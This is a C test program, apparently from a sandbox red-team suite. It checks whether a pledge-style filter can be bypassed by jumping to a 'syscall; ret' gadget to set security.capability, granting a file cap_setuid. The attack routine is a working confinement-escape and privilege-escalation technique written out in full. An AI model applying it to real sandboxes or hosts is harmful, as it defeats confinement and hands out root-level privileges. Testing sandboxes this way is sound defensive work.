/* SPDX-License-Identifier: ISC */
/*
 * gate_setcap.c: security.capability set under fattr, through a
 * "syscall; ret" found in the process (issue 46, the gate, with a
 * layer).
 *
 * fattr allows user.* attributes and POSIX ACLs; the handler checks the
 * attribute's name and makes the call itself through the one
 * instruction the filter trusts.  Landlock does not mediate extended
 * attributes: a jump to that instruction sets security.capability,
 * which as root gives a file cap_setuid.  The parent reads the
 * attribute back.
 */
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <linux/capability.h>

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "redteam.h"

struct attempt {
	int		 tamed;
	uint64_t	 gadget;
	const char	*path;
};

static int
attack(void *arg)
{
	const struct attempt *a = arg;
	struct vfs_cap_data cap;
	struct rt_regs r = { SYS_setxattr, { (long)a->path,
	    (long)"security.capability", (long)&cap, XATTR_CAPS_SZ_2, 0 } };

	memset(&cap, 0, sizeof(cap));
	cap.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE;
	cap.data[0].permitted = 1u << CAP_SETUID;
	if (a->tamed)
		rt_pledge("stdio fattr", NULL);
	rt_sh->ret = rt_jump(a->gadget, &r);
	return 0;
}

static int
try(struct attempt *a)
{
	struct rt_kid k;
	char b[64];

	removexattr(a->path, "security.capability");
	rt_spawn(&k, attack, a);
	rt_reap(&k);
	rt_check(k.status);
	return getxattr(a->path, "security.capability", b, sizeof(b)) > 0;
}

int
main(int argc, char **argv)
{
	static struct rt_gadget g[RT_MAXGADGETS];
	struct attempt a = { 0 };
	int n, i, fd;

	rt_init(argc, argv);
	if (!rt_is_root()) {
		rt_na("security.capability needs CAP_SETFCAP (root)");
		return rt_finish();
	}
	a.path = rt_path("program");
	if ((fd = open(a.path, O_WRONLY | O_CREAT, 0755)) == -1)
		rt_fatal("%s", a.path);
	close(fd);
	if ((n = rt_gadgets(g, RT_MAXGADGETS)) == 0) {
		rt_na("no \"syscall; ret\" in this process's code");
		return rt_finish();
	}
	a.gadget = g[0].addr;
	if (!try(&a)) {
		rt_na("untamed, setxattr security.capability did nothing "
		    "(a file system without it?)");
		return rt_finish();
	}
	a.tamed = 1;
	for (i = 0; i < n; i++) {
		a.gadget = g[i].addr;
		if (try(&a)) {
			rt_escaped("pledge(\"stdio fattr\"): setxattr through "
			    "the \"syscall; ret\" at %s gave a file "
			    "security.capability (cap_setuid)", g[i].where);
			return rt_finish();
		}
	}
	rt_held("pledge(\"stdio fattr\"): none of %d \"syscall; ret\" set "
	    "security.capability", n);
	return rt_finish();
}
